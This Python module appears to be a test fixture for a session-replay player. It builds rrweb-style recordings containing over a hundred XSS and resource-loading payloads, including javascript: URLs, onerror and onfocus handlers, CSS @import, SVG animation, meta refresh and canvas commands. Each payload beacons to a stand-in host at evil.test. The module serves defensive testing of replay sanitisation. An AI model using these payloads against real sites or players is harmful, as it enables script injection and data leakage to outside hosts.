"""Recordings made by hand to connect to somewhere, run a script or leave the player: a hundred ways and more.

Each way has a number and a host of its own, `v<number>.evil.test`, so that what gets through is told by its name.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import count
from typing import Any

Json = dict[str, Any]

START = 1_790_000_000_001


@dataclass
class Ways:
    """Numbers ways and nodes. `port` is where whatever is asked for would be heard."""

    port: int
    names: dict[int, str] = field(default_factory=dict)
    _ids: Iterator[int] = field(default_factory=lambda: count(100))

    def way(self, name: str) -> tuple[int, str, str]:
        """Number, address and script of a new way."""
        number = len(self.names) + 1
        self.names[number] = name
        address = f"http://v{number}.evil.test:{self.port}/{number}"
        # Tells of itself in every document that it can reach.
        script = (
            f"console.log('PWNED {number}');for(const w of [self,parent,top])"
            f"try{{w.document.documentElement.dataset.pwned='{number}'}}catch(e){{}}new Image().src='{address}'"
        )
        return number, address, script

    def element(self, tag: str, attributes: Json | None = None, *children: Json, svg: bool = False) -> Json:
        """An element with an id of its own."""
        node: Json = {"type": 2, "tagName": tag, "attributes": attributes or {}, "childNodes": list(children)}
        if svg:
            node["isSVG"] = True
        return node | {"id": next(self._ids)}

    def text(self, text: str, *, style: bool = False) -> Json:
        """A text node."""
        return {"type": 3, "textContent": text, "id": next(self._ids)} | ({"isStyle": True} if style else {})

    def document(self, *body: Json, head: tuple[Json, ...] = ()) -> Json:
        """A document of its own, for a frame."""
        html = self.element("html", {}, self.element("head", {}, *head), self.element("body", {}, *body))
        return {"type": 0, "childNodes": [html], "id": next(self._ids)}


# Attributes by element: "U" stands for the address, "J" for the script.
_ATTRIBUTES: list[tuple[str, Json]] = [
    ("iframe", {"src": "U"}),
    ("IFRAME", {"SRC": "U"}),
    ("iframe", {"srcdoc": "<script>J</script><img src='U'>"}),
    ("iframe", {"src": "javascript:J"}),
    ("iframe", {"src": "data:text/html,<script>J</script><img src='U'>"}),
    ("iframe", {"src": "//H/x"}),
    ("iframe", {"src": "U", "sandbox": "allow-scripts allow-top-navigation allow-popups", "loading": "eager"}),
    ("iframe", {"rr_src": "U", "src": "about:blank#U"}),
    ("frame", {"src": "U"}),
    ("object", {"data": "U", "type": "text/html"}),
    ("object", {"data": "U", "type": "image/svg+xml"}),
    ("object", {"classid": "U", "codebase": "U", "archive": "U"}),
    ("embed", {"src": "U", "type": "text/html"}),
    ("embed", {"src": "U"}),
    ("applet", {"code": "U", "codebase": "U"}),
    ("portal", {"src": "U"}),
    ("fencedframe", {"src": "U"}),
    *[
        ("link", {"rel": rel, "href": "U", **more})
        for rel, more in (
            ("preconnect", {}),
            ("PreConnect", {"crossorigin": ""}),
            ("dns-prefetch", {}),
            ("preload", {"as": "image"}),
            ("preload", {"as": "font", "crossorigin": ""}),
            ("preload", {"as": "fetch", "crossorigin": ""}),
            ("modulepreload", {}),
            ("prefetch", {}),
            ("prerender", {}),
            ("next", {}),
            ("stylesheet", {}),
            ("alternate stylesheet", {"title": "x"}),
            ("icon", {}),
            ("shortcut icon", {}),
            ("apple-touch-icon", {}),
            ("mask-icon", {}),
            ("manifest", {}),
            ("pingback", {}),
            ("import", {}),
            ("preconnect dns-prefetch stylesheet", {}),
        )
    ],
    ("link", {"rel": "preload", "as": "image", "imagesrcset": "U 1x", "imagesizes": "1px"}),
    ("meta", {"http-equiv": "refresh", "content": "0;url=U"}),
    ("meta", {"HTTP-EQUIV": "Refresh", "content": "0;url=javascript:J"}),
    ("meta", {"http-equiv": "Content-Security-Policy", "content": "img-src 'none'; report-uri U"}),
    ("meta", {"http-equiv": "Link", "content": "<U>; rel=preconnect"}),
    ("meta", {"http-equiv": "x-dns-prefetch-control", "content": "on"}),
    ("base", {"href": "U", "target": "_top"}),
    ("img", {"src": "U"}),
    ("img", {"src": "//H/x"}),
    ("img", {"srcset": "U 1x, U 2x"}),
    ("img", {"src": "data:,", "rr_dataURL": "U"}),
    ("img", {"src": "U", "crossorigin": "use-credentials", "fetchpriority": "high"}),
    ("img", {"src": "data:,", "attributionsrc": "U"}),
    ("img", {"src": "x", "onerror": "J"}),
    ("img", {"lowsrc": "U", "dynsrc": "U"}),
    ("image", {"src": "U"}),
    ("source", {"srcset": "U", "src": "U"}),
    ("video", {"src": "U", "autoplay": True, "preload": "auto"}),
    ("video", {"poster": "U"}),
    ("video", {"src": "U", "rr_mediaState": "played", "onerror": "J"}),
    ("audio", {"src": "U", "autoplay": True, "preload": "auto", "onerror": "J"}),
    ("track", {"src": "U", "default": True}),
    ("bgsound", {"src": "U"}),
    ("input", {"type": "image", "src": "U"}),
    ("input", {"autofocus": True, "onfocus": "J"}),
    ("button", {"type": "submit", "formaction": "U", "autofocus": True, "onfocus": "J"}),
    ("form", {"action": "U", "target": "_top"}),
    ("body", {"background": "U", "onload": "J", "onpageshow": "J"}),
    ("table", {"background": "U"}),
    ("td", {"background": "U"}),
    ("a", {"href": "U", "ping": "U", "target": "_top", "attributionsrc": "U"}),
    ("a", {"href": "javascript:J", "target": "_self"}),
    ("a", {"href": "//H/x", "rel": "prefetch"}),
    ("area", {"href": "U", "ping": "U", "shape": "default"}),
    ("script", {"src": "U"}),
    ("script", {"src": "data:text/javascript,J"}),
    ("marquee", {"onstart": "J", "loop": "1", "width": "1"}),
    ("details", {"open": True, "ontoggle": "J"}),
    ("select", {"autofocus": True, "onfocus": "J"}),
    ("textarea", {"autofocus": True, "onfocus": "J"}),
    ("div", {"style": "animation: hostile 1ms; background: red", "onanimationstart": "J"}),
    ("div", {"style": "background: url('U')"}),
    ("div", {"style": "background-image: image-set('U' 1x)"}),
    ("div", {"style": "background-image: -webkit-image-set(url('U') 1x)"}),
    ("div", {"style": "background-image: cross-fade(url('U'), url('U'), 50%)"}),
    ("div", {"style": "cursor: url('U'), auto"}),
    ("li", {"style": "list-style: url('U')"}),
    ("div", {"style": "border: 3px solid; border-image: url('U') 30"}),
    ("div", {"style": "mask-image: url('U'); -webkit-mask-image: url('U')"}),
    ("div", {"style": "filter: url('U#f'); clip-path: url('U#c')"}),
    ("div", {"style": "shape-outside: url('U'); float: left"}),
    ("div", {"style": "--x: url('U'); background: var(--x)"}),
    ("div", {"style": "content: url('U')"}),
    ("math", {"href": "U", "xlink:href": "U"}),
    ("style", {"_cssText": "@import url('U');"}),
    ("style", {"_cssText": "@import 'U' screen;", "onload": "J"}),
    ("style", {"_cssText": "@font-face { font-family: h; src: url('U') } * { font-family: h }"}),
    ("style", {"_cssText": "@namespace url('U'); @-moz-document url('U') { a { color: red } }"}),
    ("style", {"_cssText": "html { background: url(U) } p::after { content: url(U) }"}),
    (
        "style",
        {"_cssText": "@property --p { syntax: '<url>'; inherits: true; initial-value: url(U) } p { color: var(--p) }"},
    ),
    ("style", {"_cssText": "@\\69mport \\75rl('U'); p { background: u\\72l('U') }"}),
    ("link", {"rel": "stylesheet", "_cssText": "@import url('U');"}),
    ("canvas", {"rr_dataURL": "U"}),
    ("canvas", {"width": "9", "height": "9", "style": "background: url(U)", "rr_dataURL": "data:image/png;base64,A'U"}),
    ("img", {"src": "U", "alt": "\"/><image href='U'/><script>J</script>", "width": "900", "height": "90"}),
    ("iframe", {"rr_src": "U", "style": "background: url(U)"}),
    ("use", {"href": "U#x", "onload": "J"}),
    ("template", {"shadowrootmode": "open"}),
    ("dialog", {"open": True, "onclose": "J"}),
    ("keygen", {"autofocus": True, "onfocus": "J"}),
    ("webview", {"src": "U"}),
]
_SVG: list[tuple[str, Json]] = [
    ("image", {"href": "U"}),
    ("image", {"xlink:href": "U"}),
    ("use", {"href": "U#x"}),
    ("use", {"xlink:href": "data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='J'/>#x"}),
    ("feImage", {"href": "U"}),
    ("script", {"href": "U"}),
    ("script", {"xlink:href": "data:text/javascript,J"}),
    ("a", {"xlink:href": "javascript:J"}),
    ("set", {"attributeName": "href", "to": "javascript:J", "begin": "0s", "onbegin": "J"}),
    ("animate", {"attributeName": "xlink:href", "values": "javascript:J", "begin": "0s", "onbegin": "J"}),
    ("rect", {"fill": "url(U#p)", "filter": "url(U#f)", "mask": "url(U#m)", "width": "9", "height": "9"}),
    ("svg", {"onload": "J"}),
    ("linearGradient", {"href": "U#g"}),
    ("textPath", {"href": "U#t"}),
    ("mpath", {"href": "U#m"}),
    ("style", {"_cssText": "@import url('U');"}),
    ("iframe", {"src": "U"}),
]


def _filled(ways: Ways, name: str, attributes: Json) -> Json:
    number, address, script = ways.way(name)
    host = f"v{number}.evil.test:{ways.port}"

    def fill(value: Any) -> Any:
        if not isinstance(value, str):
            return value
        # "J" and "H" stand where no word of an attribute has them.
        return value.replace("J", script).replace("U", address).replace("//H/", f"//{host}/")

    return {key: fill(value) for key, value in attributes.items()} | {"id": f"v{number}", "data-way": str(number)}


def elements(ways: Ways, manner: str) -> list[Json]:
    """Every way that is an element with attributes."""
    made = [
        ways.element(tag, _filled(ways, f"{manner}: {tag} {attributes}", attributes)) for tag, attributes in _ATTRIBUTES
    ]
    made += [
        ways.element(
            "svg",
            {},
            ways.element(tag, _filled(ways, f"{manner}: svg {tag} {attributes}", attributes), svg=True),
            svg=True,
        )
        for tag, attributes in _SVG
    ]
    return made + _with_children(ways, manner)


def _with_children(ways: Ways, manner: str) -> list[Json]:
    """Ways that need a text or a child."""
    made = []
    for tag, attributes, form in (
        ("script", {}, "J"),
        ("script", {"type": "module"}, "import 'U';J"),
        (
            "script",
            {"type": "speculationrules"},
            '{"prefetch":[{"source":"list","urls":["U"]}],"prerender":[{"source":"list","urls":["U"]}]}',
        ),
        ("script", {"type": "importmap"}, '{"imports":{"x":"U"}}'),
        ("noscript", {}, "<img src='U'><meta http-equiv=refresh content='0;url=U'>"),
        ("template", {}, "<img src='U'>"),
        ("xmp", {}, "<img src='U' onerror='J'>"),
        ("plaintext", {}, "<script>J</script>"),
        ("title", {}, "</title><script>J</script>"),
    ):
        number, address, script = ways.way(f"{manner}: {tag} {attributes} with a text")
        text = ways.text(form.replace("J", script).replace("U", address))
        made.append(ways.element(tag, attributes | {"id": f"v{number}"}, text))
    for wrap in ("picture", "video", "noscript", "template", "object", "foreignObject"):
        number, address, _ = ways.way(f"{manner}: {wrap} with a child")
        inner = ways.element("source", {"srcset": address, "src": address}), ways.element("img", {"src": address})
        frame = ways.element("iframe", {"src": address})
        made.append(ways.element(wrap, {"id": f"v{number}"}, *inner, frame))
    number, address, _ = ways.way(f"{manner}: style with a text")
    made.append(ways.element("style", {"id": f"v{number}"}, ways.text(f"@import url('{address}');", style=True)))
    number, address, script = ways.way(f"{manner}: shadow root")
    shadow = [ways.element("iframe", {"src": address}), ways.element("link", {"rel": "preconnect", "href": address})]
    host = ways.element("div", {"id": f"v{number}"}, *[child | {"isShadow": True} for child in shadow])
    made.append(host | {"isShadowHost": True})
    number, _, script = ways.way(f"{manner}: comment and CDATA")
    made.append(
        ways.element(
            "div",
            {"id": f"v{number}"},
            {"type": 5, "textContent": f"--><script>{script}</script>", "id": next(ways._ids)},
        )
    )
    return made


def recording(ways: Ways) -> list[Json]:
    """Every way in the first picture, in a change, in a frame's document, and as an event of its own."""
    frame, host, style = (
        ways.element("iframe", {}),
        ways.element("div", {}),
        ways.element("style", {}, ways.text("p { color: red }", style=True)),
    )
    plain = [
        (tag, attributes, ways.element(tag, {})) for tag, attributes in _ATTRIBUTES if "_cssText" not in attributes
    ]
    canvas, video = ways.element("canvas", {}), ways.element("video", {})
    body = ways.element(
        "body", {}, *elements(ways, "snapshot"), frame, host, canvas, video, *[node for *_, node in plain]
    )
    html = ways.element("html", {}, ways.element("head", {}, style), body)
    top = {
        "type": 0,
        "childNodes": [{"type": 1, "name": "html", "publicId": "", "systemId": "", "id": 2}, html],
        "id": 1,
    }
    _, meta, _ = ways.way("meta event")
    events: list[Json] = [
        {"type": 4, "data": {"href": meta, "width": 800, "height": 600}},
        {"type": 2, "data": {"node": top, "initialOffset": {"left": 0, "top": 0}}},
    ]

    def mutate(**parts: list[Json]) -> None:
        events.append(
            {"type": 3, "data": {"source": 0, "texts": [], "attributes": [], "removes": [], "adds": []} | parts}
        )

    mutate(adds=[{"parentId": host["id"], "nextId": None, "node": node} for node in elements(ways, "added")])
    document = ways.document(*elements(ways, "frame"))
    mutate(adds=[{"parentId": frame["id"], "nextId": None, "node": document}])
    events[-1]["data"]["isAttachIframe"] = True
    for tag, attributes, node in plain:
        mutate(
            attributes=[{"id": node["id"], "attributes": _filled(ways, f"attribute: {tag} {attributes}", attributes)}]
        )
    events += [{"type": 3, "data": data} for data in _changes(ways, host["id"], style, canvas["id"], video["id"])]
    events += _others(ways)
    events.append(
        {"type": 3, "data": {"source": 1, "positions": [{"x": 9, "y": 9, "id": body["id"], "timeOffset": 0}]}}
    )
    return [event | {"timestamp": START + number} for number, event in enumerate(events)]


def _changes(ways: Ways, host: int, style: Json, canvas: int, video: int) -> Iterator[Json]:
    """Incremental events that are no mutations."""

    def way(name: str) -> tuple[str, str]:
        _, address, script = ways.way(name)
        return address, script

    address, _ = way("style property")
    yield {
        "source": 0,
        "texts": [],
        "removes": [],
        "adds": [],
        "attributes": [{"id": host, "attributes": {"style": {"background": f"url({address})"}}}],
    }
    address, _ = way("text of a style")
    text = style["childNodes"][0]["id"]
    yield {
        "source": 0,
        "texts": [{"id": text, "value": f"@import url({address});"}],
        "removes": [],
        "adds": [],
        "attributes": [],
    }
    for rule in ("@import url({});", "p {{ background: url({}) }}", "@font-face {{ font-family: r; src: url({}) }}"):
        address, _ = way(f"rule {rule}")
        yield {"source": 8, "id": style["id"], "adds": [{"rule": rule.format(address), "index": 0}]}
        address, _ = way(f"replaced by {rule}")
        yield {"source": 8, "id": style["id"], "replaceSync": rule.format(address)}
        address, _ = way(f"adopted {rule}")
        yield {
            "source": 15,
            "id": 1,
            "styleIds": [7],
            "styles": [{"styleId": 7, "rules": [{"rule": rule.format(address), "index": 0}]}],
        }
    address, _ = way("declaration")
    yield {"source": 13, "id": style["id"], "index": [0], "set": {"property": "background", "value": f"url({address})"}}
    for source in (f"url({way('font')[0]})", f"local(x), url('{way('font with two')[0]}')"):
        yield {"source": 10, "family": "evil", "fontSource": source, "buffer": False, "descriptors": {}}
    address, script = way("canvas picture")
    picture = {"rr_type": "Image", "src": address}
    yield {"source": 9, "id": canvas, "type": 0, "commands": [{"property": "drawImage", "args": [picture, 0, 0]}]}
    yield {"source": 9, "id": canvas, "type": 0, "property": "drawImage", "args": [picture, 0, 0]}
    for kind in ("WebSocket", "Function", "EventSource", "Worker", "Audio"):
        address, script = way(f"canvas {kind}")
        argument = {"Function": script, "WebSocket": address.replace("http:", "ws:")}.get(kind, address)
        made = {"rr_type": kind, "args": [argument]}
        yield {"source": 9, "id": canvas, "type": 0, "commands": [{"property": "drawImage", "args": [made, 0, 0]}]}
    for name in ("filter", "font", "fillStyle", "constructor", "__proto__", "canvas", "createPattern", "toString"):
        address, script = way(f"canvas command {name}")
        for argument in (f"url({address}#f)", script, address):
            commands = [{"property": name, "args": [argument], "setter": setter} for setter in (True, False)]
            yield {"source": 9, "id": canvas, "type": 0, "commands": commands}
    for media_type in ("image/svg+xml", "image/png", "text/html"):
        address, script = way(f"canvas {media_type}")
        drawing = (
            f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload=\"{script}\">"
            f"<image href='{address}' width='9' height='9'/></svg>"
        )
        bytes_ = {"rr_type": "ArrayBuffer", "base64": base64.b64encode(drawing.encode()).decode()}
        blob = {"rr_type": "Blob", "data": [bytes_], "type": media_type}
        bitmap = {"rr_type": "ImageBitmap", "args": [blob]}
        for drawn in (blob, bitmap):
            yield {"source": 9, "id": canvas, "type": 0, "commands": [{"property": "drawImage", "args": [drawn, 0, 0]}]}
    yield {"source": 7, "id": video, "type": 0, "currentTime": 1, "volume": 1, "muted": True, "playbackRate": 1}
    address, _ = way("input")
    yield {"source": 5, "id": host, "text": address, "isChecked": False}
    for type_ in (2, 5, 7):
        yield {"source": 2, "type": type_, "id": host, "x": 5, "y": 5}
    address, script = way("custom element")
    yield {"source": 16, "define": {"name": f"x-{script[:3].lower()}"}}


def _others(ways: Ways) -> Iterator[Json]:
    """Events that are no changes of the page."""
    _, address, script = ways.way("custom event")
    yield {"type": 5, "data": {"tag": f"<img src={address} onerror={script}>", "payload": {"href": address}}}
    for tag, payload in (
        ("top_layer", {"id": 101, "kind": "popover", "open": True}),
        ("top_layer", {"id": "J", "kind": script, "open": True}),
        ("not_recorded", {"reason": f"<img src={address}>", "count": script}),
        ("missing", {"first_seq": script, "last_seq": address}),
        ("visibility", {"visible": address}),
    ):
        yield {"type": 5, "data": {"tag": f"reelstream.{tag}", "payload": payload}}
    _, address, script = ways.way("plugin event")
    yield {
        "type": 6,
        "data": {"plugin": "rrweb/console@1", "payload": {"level": "log", "trace": [address], "payload": [script]}},
    }
    _, address, _ = ways.way("asset event")
    yield {"type": 7, "data": {"url": address, "payload": {"rr_type": "Blob", "data": []}}}
    _, address, _ = ways.way("second meta event")
    yield {"type": 4, "data": {"href": address, "width": 800, "height": 600}}
